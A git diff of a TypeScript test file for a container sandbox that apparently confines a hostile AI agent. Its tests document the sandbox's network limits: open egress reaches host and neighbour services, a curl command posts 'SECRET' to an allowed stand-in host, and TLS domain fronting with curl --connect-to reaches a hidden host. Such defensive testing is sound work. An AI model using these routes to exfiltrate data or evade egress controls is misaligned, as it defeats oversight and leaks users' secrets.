@@ -5,12 +5,18 @@
 import { once } from 'node:events';
 import { existsSync, linkSync, readFileSync, renameSync, statfsSync, writeFileSync } from 'node:fs';
 import { readFile, writeFile } from 'node:fs/promises';
-import { createServer, type AddressInfo } from 'node:net';
+import { createServer as createHttpServer } from 'node:http';
+import { createServer as createHttpsServer } from 'node:https';
+import { createServer, type AddressInfo, type Server } from 'node:net';
 import { release } from 'node:os';
 import { join } from 'node:path';
+import { TLSSocket } from 'node:tls';
+import { authorityOf, identityFor } from '../../src/credentials/authority';
+import { commonHosts } from '../../src/egress/listed-hosts';
 import { Editor } from '../engine/editor';
 import { Place } from '../engine/place';
 import { Cai, newWorkspace, ownFile } from '../engine/support';
+import { newFolder } from '../support/temp-folder';
 import { Canary } from './canary';
 import { handsFolder, receivesFolder } from './handed-folder';
 import { agent, hostileConfig, sceneFor } from './hostile-agent';
@@ -29,11 +35,19 @@ function open(sentence: string, isSo: () => Promise<boolean>): void {
   test(sentence, async () => expect(await isSo()).toBe(true));
 }
 
-/** What an agent reads at a port of an address, which is a shell word. */
-async function readFrom(address: string, port: number): Promise<string> {
+/** What a command reads in a place at a port of an address. */
+async function readFrom(place: Place, address: string, port: number): Promise<string> {
   const script =
     'import socket, sys; print(socket.create_connection((sys.argv[1], int(sys.argv[2])), 5).recv(100))';
-  return (await scene.tries(`python3 -c '${script}' ${address} ${port}`)).stdout ?? '';
+  return (await place.run(['python3', '-c', script, address, String(port)])).stdout.toString();
+}
+
+/** A place whose user allows a server of this machine, by a name that the server need not have. */
+async function placeAllowing(name: string, server: Server): Promise<{ place: Place; at: string }> {
+  await once(server.listen(0, '127.0.0.1').unref(), 'listening');
+  const at = `${name}:${(server.address() as AddressInfo).port}`;
+  const config = `allow = ["${at}"]\n[container]\nextra_hosts = ["${name}:127.0.0.1"]\n`;
+  return { place: await new Place(new Cai(config)).opened(), at };
 }
 
 /** Is handed a folder, and writes in it when it is told to. */
@@ -51,24 +65,54 @@ async function gitStatus(folder: string): Promise<void> {
 
 const gatewayScript = "import re; print('.'.join(str(b) for b in reversed(bytes.fromhex([l.split()[2] for l in open('/proc/net/route') if l.split()[1] == '00000000'][0]))))"; // prettier-ignore
 
-open('A container can reach the internet.', async () =>
-  (await scene.sh('cat /proc/net/route')).split('\n').some((line) => line.split('\t')[1] === '00000000'),
+open(
+  'With network.egress = "open", a container can reach the internet, and services of your machine and of other containers that listen on all addresses.',
+  async () => {
+    const openCai = new Cai('egress = "open"\n');
+    const [place, other] = [await new Place(openCai).opened(), await new Place(openCai).opened()];
+    const routes = (await place.prints(['cat', '/proc/net/route'])).split('\n');
+    const server = createServer((socket) => socket.end('SERVICE')).listen(0, '0.0.0.0');
+    await once(server, 'listening');
+    const gateway = await place.prints(['python3', '-c', gatewayScript]);
+    const ofMachine = await readFrom(place, gateway, (server.address() as AddressInfo).port);
+    server.close();
+    const serve = "import socket; s = socket.create_server(('0.0.0.0', 9983)); print('begun', flush=True)\nwhile True: s.accept()[0].sendall(b'SERVICE')"; // prettier-ignore
+    const serving = other.start(['python3', '-c', serve]);
+    await serving.says('begun');
+    const ofOther = await readFrom(place, await other.inspect('{{.NetworkSettings.IPAddress}}'), 9983);
+    serving.child.kill('SIGKILL');
+    const leadsOut = routes.some((line) => line.split('\t')[1] === '00000000');
+    return leadsOut && [ofMachine, ofOther].every((said) => said.includes('SERVICE'));
+  },
 );
 
 open(
-  'A container can reach services of your machine and of other containers that listen on all addresses.',
+  'A host that is allowed can be sent data, such as github.com by anybody with an account there.',
   async () => {
-    const server = createServer((socket) => socket.end('SERVICE')).listen(0, '0.0.0.0');
-    await once(server, 'listening');
-    const gateway = (await scene.sh(`python3 - <<'EOF'\n${gatewayScript}\nEOF`)).trim();
-    const ofMachine = await readFrom(gateway, (server.address() as AddressInfo).port);
+    let sent = '';
+    const server = createHttpServer((request, answer) => {
+      request.on('data', (chunk: Buffer) => (sent += chunk.toString())).on('end', () => answer.end());
+    });
+    const { place, at } = await placeAllowing('uploads.example', server);
+    await place.prints(['curl', '-sS', '-d', 'SECRET', `http://${at}/`]);
     server.close();
-    const serve = "import socket; s = socket.create_server(('0.0.0.0', 9983)); print('begun', flush=True)\nwhile True: s.accept()[0].sendall(b'SERVICE')"; // prettier-ignore
-    const other = neighbour.start(['python3', '-c', serve]);
-    await other.says('begun');
-    const ofOther = await readFrom(await neighbour.inspect('{{.NetworkSettings.IPAddress}}'), 9983);
-    other.child.kill('SIGKILL');
-    return [ofMachine, ofOther].every((said) => said.includes('SERVICE'));
+    return sent === 'SECRET' && commonHosts.some(({ rule }) => rule === 'github.com:443');
+  },
+);
+
+open(
+  'Inside TLS nothing is looked at: a host behind the same front end as an allowed one may be reached by it.',
+  async () => {
+    const identity = identityFor('hidden.example', await authorityOf(newFolder()));
+    const server = createHttpsServer(identity, ({ socket }, answer) => {
+      answer.end(socket instanceof TLSSocket && socket.servername);
+    });
+    const { place, at } = await placeAllowing('front.example', server);
+    const { port } = server.address() as AddressInfo;
+    const behind = ['--connect-to', `hidden.example:${port}:${at}`, `https://hidden.example:${port}/`];
+    const said = await place.prints(['curl', '-sSk', ...behind]);
+    server.close();
+    return said === 'hidden.example';
   },
 );
 
